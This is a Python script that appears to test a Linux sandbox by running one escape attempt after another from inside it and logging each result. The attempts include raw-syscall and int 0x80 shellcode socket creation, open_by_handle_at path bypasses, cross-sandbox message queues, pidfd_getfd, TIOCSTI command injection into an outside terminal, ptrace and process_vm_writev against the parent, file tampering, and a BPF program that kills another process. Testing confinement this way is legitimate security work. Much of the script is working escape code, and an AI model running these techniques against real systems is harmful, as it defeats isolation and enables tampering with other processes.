# Inside the sandbox: every attempt, its outcome.
import ctypes, errno, fcntl, json, mmap, os, socket, struct, sys, time
P = json.load(open("/tmp/attack-filter/pids.json")); L = P["L"]; OUT = "/tmp/attack-filter/outside.txt"
libc = ctypes.CDLL(None, use_errno=True); SC = libc.syscall; SC.restype = ctypes.c_long
Lg = ctypes.c_long
print("KOPT_CONFINED:", os.environ["KOPT_CONFINED"], flush=True)
def sc(*a):
    r = SC(*[Lg(x) if isinstance(x, int) else x for x in a])
    if r < 0: e = ctypes.get_errno(); raise OSError(e, os.strerror(e))
    return r
def t(name, fn):
    try: r = fn(); print(f"[OK ] {name}: {r}", flush=True)
    except Exception as e: print(f"[no ] {name}: {type(e).__name__} {e}", flush=True)
ppid = os.getppid()
# ---------- 1. network ----------
for fam, typ, nm in ((2, 1, "INET STREAM"), (2, 2, "INET DGRAM"), (10, 1, "INET6 STREAM"), (10, 2, "INET6 DGRAM"),
                     (2, 1 | 0x800, "INET STREAM|NONBLOCK"), (16, 3, "NETLINK"), (40, 1, "VSOCK"), (17, 3, "PACKET"),
                     (1, 2, "UNIX DGRAM"), (1, 5, "UNIX SEQPACKET"), (1, 1, "UNIX STREAM"), (0x100000001, 2, "family hi-bits|AF_UNIX, DGRAM")):
    t(f"socket({nm})", lambda: sc(41, fam, typ, 0))
t("socket via x32 number (0x40000000|41)", lambda: sc(0x40000000 | 41, 2, 2, 0))
def int80(nr, a, b, c):
    code = bytes([0x53, 0xb8]) + struct.pack("<I", nr) + bytes([0xbb]) + struct.pack("<I", a) + bytes([0xb9]) + struct.pack("<I", b) + \
           bytes([0xba]) + struct.pack("<I", c) + bytes([0xcd, 0x80, 0x5b, 0xc3])
    m = mmap.mmap(-1, 4096, prot=7); m.write(code)
    f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
    r = f(); return r if r >= 0 else f"-{errno.errorcode[-r]}"
t("int 0x80 socket(AF_INET,DGRAM) (i386 nr 359)", lambda: int80(359, 2, 2, 0))
t("int 0x80 getpid (i386 nr 20)", lambda: int80(20, 0, 0, 0))
t("io_uring_setup", lambda: sc(425, 8, ctypes.create_string_buffer(120)))
us = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
t("unix stream connect(path listener)", lambda: us.connect(f"{L}/stream.sock"))
t("unix stream sendto(addr) unconnected", lambda: us.sendto(b"x", f"{L}/stream.sock"))
for fam in range(0, 46):
    for typ in (1, 2, 5):
        try:
            a, b = socket.socketpair(fam, typ); print(f"[OK ] socketpair(family {fam}, type {typ})"); a.close(); b.close()
        except OSError as e: pass
try:
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    print("[OK ] socketpair(AF_UNIX, SOCK_DGRAM) despite stream_only:", a)
except OSError as e:
    print("[no ] socketpair(AF_UNIX, SOCK_DGRAM):", e); a = socket.socket(socket.AF_UNIX)
for tgt in ("dgram.sock", "dgram-hardlink.sock"):
    t(f"dgram sendto {tgt}", lambda: a.sendto(b"via socketpair dgram -> " + tgt.encode(), f"{L}/{tgt}"))
t("dgram sendto abstract", lambda: a.sendto(b"abstract", "\0kopt-attack-dgram"))
t("dgram sendto /proc/ppid/root path", lambda: a.sendto(b"procroot", f"/proc/{ppid}/root{L}/dgram.sock"))
# open_by_handle_at with generation 0: the covered socket's own inode, then its /proc/self/fd name
def by_inode(path, flags=0x200000):  # O_PATH
    d, n = os.path.split(path); ino = next(e.inode() for e in os.scandir(d) if e.name == n)
    mfd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fh = struct.pack("=Ii", 8, 1) + struct.pack("=II", ino, 0)  # FILEID_INO32_GEN, generation 0
    return sc(304, mfd, ctypes.create_string_buffer(fh, len(fh)), flags)
def via_handle_dgram():
    fd = by_inode(f"{L}/dgram.sock"); return a.sendto(b"via open_by_handle_at + /proc/self/fd", f"/proc/self/fd/{fd}")
t("dgram sendto covered path via open_by_handle_at(ino, gen 0)", via_handle_dgram)
def via_handle_stream():
    fd = by_inode(f"{L}/stream.sock"); s = socket.socket(socket.AF_UNIX); s.connect(f"/proc/self/fd/{fd}"); s.send(b"stream via handle"); return "connected"
t("stream connect covered path via open_by_handle_at (needs connect allowed)", via_handle_stream)
t("SysV msgsnd to outside queue", lambda: (lambda q: sc(69, q, ctypes.create_string_buffer(struct.pack("=q", 1) + b"sysv msg from sandbox"), 21, 0))(sc(68, P["key"], 0)))
libc.mq_open.restype = ctypes.c_int
def mq():
    q = libc.mq_open(b"/kopt-attack", os.O_WRONLY)
    if q < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    if libc.mq_send(q, b"posix mq from sandbox", 21, 0) < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "sent"
t("POSIX mq_open(O_WRONLY)+mq_send", mq)
t("pidfd_getfd(parent, 3)", lambda: sc(438, sc(434, ppid, 0), 3, 0))
t("open /proc/ppid/fd/0", lambda: os.open(f"/proc/{ppid}/fd/0", os.O_RDONLY))
def tiocsti(s):
    fd = os.open(P["pts"], os.O_RDONLY | os.O_NOCTTY)
    for ch in s: fcntl.ioctl(fd, 0x5412, bytes([ch]))  # TIOCSTI
    return f"{len(s)} bytes pushed into {P['pts']} (opened read-only)"
t("TIOCSTI: command into an outside shell's terminal", lambda: tiocsti(b"echo PWNED by $$ outside the sandbox > /tmp/attack-filter/outside-tiocsti.txt\n"))
time.sleep(2)  # the launcher binds its late sockets meanwhile
t("dgram sendto socket bound after the sandbox", lambda: a.sendto(b"late dgram", f"{L}/late-dgram.sock"))
t("stream connect socket bound after the sandbox", lambda: socket.socket(socket.AF_UNIX).connect(f"{L}/late-stream.sock"))
# ---------- 2. files ----------
t("open(outside, O_WRONLY)", lambda: os.open(OUT, os.O_WRONLY))
t("open(outside, O_RDONLY|O_TRUNC)", lambda: os.open(OUT, os.O_RDONLY | os.O_TRUNC))
t("truncate(outside)", lambda: os.truncate(OUT, 0))
t("open_by_handle_at(outside, O_WRONLY)", lambda: by_inode(OUT, os.O_WRONLY))
t("O_PATH then /proc/self/fd reopen O_WRONLY", lambda: os.open(f"/proc/self/fd/{os.open(OUT, os.O_PATH)}", os.O_WRONLY))
t("link outside into scratch", lambda: os.link(OUT, "/tmp/attack-filter/scratch/lnk"))
t("rename outside into scratch", lambda: os.rename(OUT, "/tmp/attack-filter/scratch/mv"))
rfd = os.open(OUT, os.O_RDONLY)
t("fallocate(read-only fd)", lambda: os.posix_fallocate(rfd, 0, 100))
t("mmap(MAP_SHARED, PROT_WRITE) read-only fd", lambda: mmap.mmap(rfd, 9, mmap.MAP_SHARED, mmap.PROT_WRITE))
t("chmod(outside, 0o777)", lambda: os.chmod(OUT, 0o777))
t("chown(outside, 1234, 1234)", lambda: os.chown(OUT, 1234, 1234))
t("utime(outside, 1e9)", lambda: os.utime(OUT, (1e9, 1e9)))
t("setxattr user.kopt", lambda: os.setxattr(OUT, "user.kopt", b"x"))
t("setxattr trusted.kopt", lambda: os.setxattr(OUT, "trusted.kopt", b"y"))
t("ioctl FS_IOC_SETFLAGS immutable on read-only fd", lambda: fcntl.ioctl(rfd, 0x40086602, struct.pack("l", 0x10)))
# ---------- 3. processes ----------
t("kill(parent, 0)", lambda: os.kill(ppid, 0))
t("pidfd_send_signal(parent, SIGSTOP)", lambda: sc(424, sc(434, ppid, 0), 19, 0, 0))
t("ptrace(ATTACH, parent)", lambda: sc(101, 16, ppid, 0, 0))
t("process_vm_writev(parent)", lambda: sc(311, ppid, 0, 0, 0, 0, 0))
def sigio():
    r, w = os.pipe(); fcntl.fcntl(r, fcntl.F_SETOWN, ppid); fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC); os.write(w, b"x"); return "F_SETOWN/O_ASYNC armed, byte written"
t("SIGIO via F_SETOWN(parent)", sigio)
t("setpriority(parent, 19)", lambda: os.setpriority(os.PRIO_PROCESS, ppid, 19))
t("sched_setaffinity(parent, {0})", lambda: os.sched_setaffinity(ppid, {0}))
t("sched_setscheduler(parent, SCHED_IDLE)", lambda: os.sched_setscheduler(ppid, os.SCHED_IDLE, os.sched_param(0)))
t("prlimit(parent, RLIMIT_CORE=12345)", lambda: __import__("resource").prlimit(ppid, 4, (12345, 12345)))
t("prlimit(spinner, RLIMIT_CPU=1s)", lambda: __import__("resource").prlimit(P["spinner"], 0, (1, 1)))
t("reboot(bad magic): reaches the capability check?", lambda: sc(169, 0, 0, 0, 0))
t("iopl(3)", lambda: sc(172, 3))
t("oom_score_adj -1000", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))
def bpf_kill(pid):
    ins = [(0x85, 0, 0, 14), (0x77, 0, 0, 32), (0x55, 0, 2, pid), (0xb7, 1, 0, 9), (0x85, 0, 0, 109), (0xb7, 0, 0, 0), (0x95, 0, 0, 0)]
    code = b"".join(struct.pack("=BBhi", c, d, o, i) for c, d, o, i in ins)
    cb, lic, log = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL"), ctypes.create_string_buffer(4096)
    attr = struct.pack("=IIQQIIQ", 17, len(ins), ctypes.addressof(cb), ctypes.addressof(lic), 1, 4096, ctypes.addressof(log)).ljust(144, b"\0")
    try: pfd = sc(321, 5, ctypes.create_string_buffer(attr, 144), 144)
    except OSError as e: raise OSError(e.errno, f"{e} {log.value[:200]!r}")
    name = ctypes.create_string_buffer(b"sched_switch")
    lfd = sc(321, 17, ctypes.create_string_buffer(struct.pack("=QIIQ", ctypes.addressof(name), pfd, 0, 0).ljust(144, b"\0"), 144), 144)
    time.sleep(1); return f"prog {pfd} attached to sched_switch (link {lfd})"
t("bpf: raw tracepoint calling bpf_send_signal(SIGKILL) on the sleeper", lambda: bpf_kill(P["sleeper"]))
t("TIOCSTI ^C into the outside shell's terminal", lambda: tiocsti(b"\x03"))
